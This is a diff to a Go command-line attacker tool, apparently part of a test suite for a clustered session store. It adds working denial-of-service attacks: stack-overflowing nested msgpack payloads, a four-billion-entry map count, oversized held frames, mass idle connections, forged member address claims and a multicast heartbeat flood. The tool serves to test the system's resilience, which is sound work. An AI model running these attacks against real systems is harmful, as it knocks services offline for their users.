@@ -19,13 +19,28 @@
 //	attacker replay-heartbeats --group IP:PORT --iface IP --for DURATION
 //	attacker replay-frames --iface-name eth0 --port PORT --for DURATION
 //
+// The resource attacks (issue 12) try to take a node's memory, stack, file
+// descriptors or time rather than its sessions:
+//
+//	attacker deep-nesting    --target IP:PORT --domain D --depth N [--n M]
+//	attacker huge-counts     --target IP:PORT --domain D --n M
+//	attacker big-frames      --target IP:PORT --domain D --conns C --size BYTES [--hello]
+//	attacker idle-conns      --target IP:PORT --n C --from IP,IP,... --for DURATION
+//	attacker claim-addrs     --target IP:PORT --domain D --n M [--addr-ip IP]
+//	attacker heartbeat-flood --group IP:PORT --iface IP --domain D --names N --addr-ip IP --for DURATION
+//
+// Their Detail is a list of key=value counts (opened=5000 closed=4990 ...),
+// for the test to read.
+//
 // It deliberately imports nothing from flock: a reimplementation from the
 // documented layouts is what a real attacker would have.
 package main
 
 import (
+	"bufio"
 	"bytes"
 	"crypto/rand"
+	"encoding/base64"
 	"encoding/binary"
 	"encoding/json"
 	"errors"
@@ -37,6 +52,8 @@ import (
 	"os"
 	"sort"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"syscall"
 	"time"
 
@@ -93,6 +110,14 @@ func main() {
 	addr := fl.String("addr", "", "receiver address to announce")
 	leave := fl.Bool("leave", false, "announce leaving")
 	dur := fl.Duration("for", 3*time.Second, "how long")
+	depth := fl.Int("depth", 1_000_000, "nesting depth of deep-nesting")
+	count := fl.Int("n", 1, "messages (or connections) to send")
+	conns := fl.Int("conns", 64, "connections of big-frames")
+	size := fl.Int("size", 16<<20, "body bytes each big frame declares and sends")
+	sayHello := fl.Bool("hello", false, "big-frames: say hello first (what a cluster without a key lets anyone do)")
+	from := fl.String("from", "", "source addresses to spread connections over, comma-separated (default: the interface's)")
+	nnames := fl.Int("names", 1000, "member names of heartbeat-flood")
+	addrIP := fl.String("addr-ip", "", "address the claimed receivers are on")
 	fl.Parse(os.Args[2:])
 
 	r := result{Attack: os.Args[1]}
@@ -131,6 +156,23 @@ func main() {
 		err = replayHeartbeats(&r, *group, *iface, *dur)
 	case "replay-frames":
 		err = replayFrames(&r, *ifname, *port, *dur)
+	case "deep-nesting":
+		// A change with a field nested a million arrays deep: a decoder
+		// that recurses runs off its stack (fatal, not a panic).
+		body := deepPayload(*depth)
+		err = flood(&r, *target, *domain, *name, "", *count, func(int) (byte, []byte) { return typeDelta, body })
+	case "huge-counts":
+		// Eight bytes that announce a map of four billion entries: a
+		// decoder that sizes its map by the count allocates for them.
+		err = flood(&r, *target, *domain, *name, "", *count, func(int) (byte, []byte) { return typeDelta, hugeCountPayload() })
+	case "big-frames":
+		err = bigFrames(&r, *target, *domain, *conns, *size, *sayHello, *dur)
+	case "idle-conns":
+		err = idleConns(&r, *target, *count, splitList(*from), *dur)
+	case "claim-addrs":
+		err = claimAddrs(&r, *target, *domain, *count, *addrIP)
+	case "heartbeat-flood":
+		err = heartbeatFlood(&r, *group, *iface, *domain, *nnames, *addrIP, *dur)
 	default:
 		err = fmt.Errorf("unknown attack %q", r.Attack)
 	}
@@ -594,4 +636,375 @@ func assemble(segs []segment) []byte {
 		next += uint32(len(s.data))
 	}
 	return out
+}
+
+// --- resource attacks ---
+
+// kv formats counts as "key=value key=value", in the order given, for the
+// Detail the test reads.
+func kv(pairs ...any) string {
+	var b strings.Builder
+	for i := 0; i+1 < len(pairs); i += 2 {
+		if i > 0 {
+			b.WriteByte(' ')
+		}
+		fmt.Fprintf(&b, "%v=%v", pairs[i], pairs[i+1])
+	}
+	return b.String()
+}
+
+func splitList(s string) []string {
+	if s == "" {
+		return nil
+	}
+	return strings.Split(s, ",")
+}
+
+// sessionID is a well-formed session id (24 characters, a dot, a route)
+// that no node made.
+func sessionID(route string) string {
+	b := make([]byte, 18)
+	rand.Read(b)
+	return base64.RawURLEncoding.EncodeToString(b) + "." + route
+}
+
+// msgpack by hand: the library would recurse on the nesting, and cannot
+// write a count the bytes do not hold.
+func appendStr(b []byte, s string) []byte {
+	if len(s) < 32 {
+		b = append(b, 0xa0|byte(len(s)))
+	} else {
+		b = append(b, 0xd9, byte(len(s)))
+	}
+	return append(b, s...)
+}
+
+// deepPayload is a delta {"i": ID, "zz": [[[...nil...]]]} nested depth
+// arrays deep: one byte per level.
+func deepPayload(depth int) []byte {
+	b := make([]byte, 0, depth+64)
+	b = append(b, 0x82)
+	b = appendStr(appendStr(b, "i"), sessionID("node1"))
+	b = appendStr(b, "zz")
+	b = append(b, bytes.Repeat([]byte{0x91}, depth)...)
+	return append(b, 0xc0)
+}
+
+// hugeCountPayload is a delta {"i": ID, "zz": map32(0xffffffff)} with
+// none of the entries the count announces.
+func hugeCountPayload() []byte {
+	b := []byte{0x82}
+	b = appendStr(appendStr(b, "i"), sessionID("node1"))
+	b = appendStr(b, "zz")
+	return append(b, 0xdf, 0xff, 0xff, 0xff, 0xff)
+}
+
+// streamed is what came back for the messages of one connection.
+type streamed struct {
+	sent, applied, failed int
+	firstErr              string
+}
+
+// stream says hello on one connection, as name at addr ("": the
+// connection's own address, port 4000), and sends n sync messages that
+// next makes, writing them all while it reads the acks: a sender that
+// pipelines, as members do.
+func stream(target, domain, name, addr string, n int, next func(i int) (byte, []byte)) (streamed, error) {
+	var s streamed
+	c, err := net.DialTimeout("tcp", target, 3*time.Second)
+	if err != nil {
+		return s, err
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(60 * time.Second))
+	if addr == "" {
+		addr = c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
+	}
+	me := randomID()
+	wrote := make(chan int, 1)
+	go func() {
+		w := bufio.NewWriterSize(c, 64<<10)
+		_, err := w.Write(hello(me, name, domain, addr))
+		i := 0
+		for ; i < n && err == nil; i++ {
+			t, payload := next(i)
+			_, err = w.Write(envelope(t, me, uint64(i+1), payload))
+		}
+		if err == nil {
+			err = w.Flush()
+		}
+		if err != nil && i > 0 {
+			i-- // the last one did not go out whole
+		}
+		wrote <- i
+	}()
+	for s.applied+s.failed < n {
+		ft, body, err := readFrame(c)
+		if err != nil {
+			break // the node closed the connection, or the deadline passed
+		}
+		if ft != frameAck {
+			continue
+		}
+		var ack []any
+		if msgpack.Unmarshal(body, &ack) != nil || len(ack) < 3 {
+			continue
+		}
+		switch st, _ := toUint(ack[1]); st {
+		case 2:
+			s.applied++
+		case 3:
+			s.failed++
+			if s.firstErr == "" {
+				s.firstErr = fmt.Sprint(ack[2])
+			}
+		}
+	}
+	c.Close()
+	s.sent = <-wrote
+	return s, nil
+}
+
+// flood sends n messages on one connection (see stream).
+func flood(r *result, target, domain, name, addr string, n int, next func(i int) (byte, []byte)) error {
+	s, err := stream(target, domain, name, addr, n, next)
+	r.Sent = s.sent
+	r.Answered = s.applied+s.failed > 0
+	r.Applied = s.applied > 0
+	r.Detail = kv("sent", s.sent, "applied", s.applied, "failed", s.failed, "unanswered", s.sent-s.applied-s.failed) + " first_error=" + fmt.Sprintf("%q", s.firstErr)
+	return err
+}
+
+// bigFrames opens conns connections at once, each declaring a frame of
+// size bytes and sending it whole: before any hello, or after one
+// (withHello) and then holding back the last byte for hold, so that every
+// node buffer fills at once and stays full.
+func bigFrames(r *result, target, domain string, conns, size int, withHello bool, hold time.Duration) error {
+	chunk := make([]byte, 1<<20)
+	var (
+		wg                      sync.WaitGroup
+		failed, cut, whole, eof atomic.Int64
+		sent                    atomic.Int64
+	)
+	start := time.Now()
+	for i := range conns {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			c, err := net.DialTimeout("tcp", target, 3*time.Second)
+			if err != nil {
+				failed.Add(1)
+				return
+			}
+			defer c.Close()
+			c.SetDeadline(time.Now().Add(30*time.Second + hold))
+			var head []byte
+			if withHello {
+				head = hello(randomID(), fmt.Sprintf("big%03d", i), domain, c.LocalAddr().(*net.TCPAddr).IP.String()+":4000")
+			}
+			h := []byte{'F', 'L', 'K', 'T', 1, typeDelta, 0, 0, 0, 0, 0, 0}
+			binary.BigEndian.PutUint32(h[8:], uint32(size))
+			_, err = c.Write(append(head, h...))
+			left := size
+			if withHello {
+				left-- // the last byte waits
+			}
+			for left > 0 && err == nil {
+				var k int
+				k, err = c.Write(chunk[:min(len(chunk), left)])
+				left -= k
+				sent.Add(int64(k))
+			}
+			if err == nil && withHello {
+				time.Sleep(hold)
+				_, err = c.Write([]byte{0})
+			}
+			if err != nil {
+				cut.Add(1) // the node closed the connection under the frame
+				return
+			}
+			whole.Add(1)
+			c.SetReadDeadline(time.Now().Add(5 * time.Second))
+			if _, err := io.Copy(io.Discard, c); err == nil {
+				eof.Add(1) // and closed it after
+			}
+		}()
+	}
+	wg.Wait()
+	r.Sent = int(sent.Load())
+	r.Detail = kv("conns", conns, "failed", failed.Load(), "cut", cut.Load(), "whole", whole.Load(), "closed_after", eof.Load(),
+		"bytes", sent.Load(), "ms", time.Since(start).Milliseconds())
+	return nil
+}
+
+// idleConns opens n connections (256 dials at a time, spread over the
+// source addresses from) that never send a byte, and holds each until the
+// node closes it or d has passed since the start.
+func idleConns(r *result, target string, n int, from []string, d time.Duration) error {
+	start := time.Now()
+	end := start.Add(d)
+	var (
+		opened, failed, closed, open, peak atomic.Int64
+		maxHeld                            atomic.Int64 // the longest a node kept one it closed, in ms
+		firstErr                           atomic.Value
+	)
+	raise := func(a *atomic.Int64, v int64) {
+		for {
+			old := a.Load()
+			if v <= old || a.CompareAndSwap(old, v) {
+				return
+			}
+		}
+	}
+	sem := make(chan struct{}, 256)
+	var wg sync.WaitGroup
+	for i := range n {
+		sem <- struct{}{}
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			dl := net.Dialer{Timeout: 3 * time.Second}
+			if len(from) > 0 {
+				dl.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from[i%len(from)])}
+			}
+			c, err := dl.Dial("tcp", target)
+			<-sem
+			if err != nil {
+				failed.Add(1)
+				firstErr.CompareAndSwap(nil, err.Error())
+				return
+			}
+			defer c.Close()
+			at := time.Now()
+			opened.Add(1)
+			raise(&peak, open.Add(1))
+			defer open.Add(-1)
+			c.SetReadDeadline(end)
+			var b [1]byte
+			_, err = c.Read(b[:])
+			var ne net.Error
+			if errors.As(err, &ne) && ne.Timeout() {
+				return // still open at the end
+			}
+			closed.Add(1)
+			raise(&maxHeld, time.Since(at).Milliseconds())
+		}()
+	}
+	wg.Wait()
+	r.Sent = int(opened.Load())
+	fe, _ := firstErr.Load().(string)
+	r.Detail = kv("wanted", n, "opened", opened.Load(), "failed", failed.Load(), "closed", closed.Load(),
+		"open_at_end", opened.Load()-closed.Load(), "peak_open", peak.Load(), "max_held_ms", maxHeld.Load(),
+		"sources", max(1, len(from)), "ms", time.Since(start).Milliseconds())
+	if fe != "" {
+		r.Detail += fmt.Sprintf(" first_error=%q", fe)
+	}
+	return nil
+}
+
+// claimAddrs sends n changes, each on a connection of its own whose hello
+// claims another member id and receiver address (on addrIP, or spread over
+// 198.51.100.150-249): an asynchronous change to a session the node does
+// not hold (a gap, which a node repairs by fetching the session from the
+// sender), then a fetch. A node that answers the claimed addresses opens a
+// connection, and keeps state, for each.
+func claimAddrs(r *result, target, domain string, n int, addrIP string) error {
+	var (
+		wg                             sync.WaitGroup
+		sent, applied, failed, dialErr atomic.Int64
+		firstErr                       atomic.Value
+	)
+	work := make(chan int)
+	for range 16 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := range work {
+				ip := addrIP
+				if ip == "" {
+					ip = fmt.Sprintf("198.51.100.%d", 150+i%100)
+				}
+				name := fmt.Sprintf("ghost%04d", i)
+				addr := fmt.Sprintf("%s:%d", ip, 20000+i)
+				s, err := stream(target, domain, name, addr, 2, func(k int) (byte, []byte) {
+					if k == 0 {
+						return typeDelta, mp(map[string]any{"i": sessionID("node1"), "b": uint64(1), "bo": name, "v": uint64(2), "o": name,
+							"a": time.Now().UnixNano(), "s": map[string][]byte{"count": mp(1)}})
+					}
+					return typeFetch, mp(map[string]any{"i": []string{sessionID("node1")}})
+				})
+				if err != nil {
+					dialErr.Add(1)
+					continue
+				}
+				sent.Add(int64(s.sent))
+				applied.Add(int64(s.applied))
+				failed.Add(int64(s.failed))
+				if s.firstErr != "" {
+					firstErr.CompareAndSwap(nil, s.firstErr)
+				}
+			}
+		}()
+	}
+	for i := range n {
+		work <- i
+	}
+	close(work)
+	wg.Wait()
+	r.Sent = int(sent.Load())
+	r.Answered = applied.Load()+failed.Load() > 0
+	r.Applied = applied.Load() > 0
+	fe, _ := firstErr.Load().(string)
+	r.Detail = kv("claims", n, "sent", sent.Load(), "applied", applied.Load(), "failed", failed.Load(), "dial_errors", dialErr.Load()) +
+		fmt.Sprintf(" first_error=%q", fe)
+	return nil
+}
+
+// heartbeatFlood announces names members, each its own id and receiver
+// (addrIP, a port of its own), for d: every one heartbeats each 500 ms, as
+// a member does, the packets spread over the interval.
+func heartbeatFlood(r *result, group, iface, domain string, names int, addrIP string, d time.Duration) error {
+	p, g, err := joinGroup(group, iface)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if addrIP == "" {
+		addrIP = iface
+	}
+	ip, err := netip.ParseAddr(addrIP)
+	if err != nil {
+		return err
+	}
+	type fake struct {
+		id   []byte
+		name string
+		addr netip.AddrPort
+	}
+	fakes := make([]fake, names)
+	for i := range fakes {
+		id := randomID()
+		fakes[i] = fake{id, fmt.Sprintf("flood%05d-%x", i, id[:3]), netip.AddrPortFrom(ip, uint16(20000+i%40000))}
+	}
+	const interval, batch = 500 * time.Millisecond, 50
+	started, start := time.Now(), time.Now()
+	rounds, errs := 0, 0
+	for seq := uint64(1); time.Since(start) < d; seq++ {
+		round := time.Now()
+		for i, f := range fakes {
+			if _, err := p.WriteTo(heartbeatPacket(1, f.id, started, seq, f.addr, f.name, domain), nil, g); err != nil {
+				errs++
+			} else {
+				r.Sent++
+			}
+			if (i+1)%batch == 0 {
+				// Paced: the round's packets fill the interval.
+				time.Sleep(time.Until(round.Add(interval * time.Duration(i+1) / time.Duration(len(fakes)))))
+			}
+		}
+		rounds++
+		time.Sleep(time.Until(round.Add(interval)))
+	}
+	r.Detail = kv("names", names, "rounds", rounds, "packets", r.Sent, "send_errors", errs)
+	return nil
 }
